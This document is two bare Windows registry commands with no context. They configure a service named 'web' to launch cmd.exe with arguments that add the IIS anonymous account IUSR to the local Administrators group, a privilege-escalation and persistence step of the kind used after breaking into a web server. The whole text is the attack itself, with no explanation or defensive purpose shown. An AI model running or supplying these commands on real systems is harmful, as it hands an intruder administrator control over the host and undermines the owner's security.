reg add HKLM\SYSTEM\CurrentControlSet\Services\web\Parameters /v Application /d cmd.exe
reg add HKLM\SYSTEM\CurrentControlSet\Services\web\Parameters /v AppParameters /d "/c net localgroup Administrators IUSR /add"
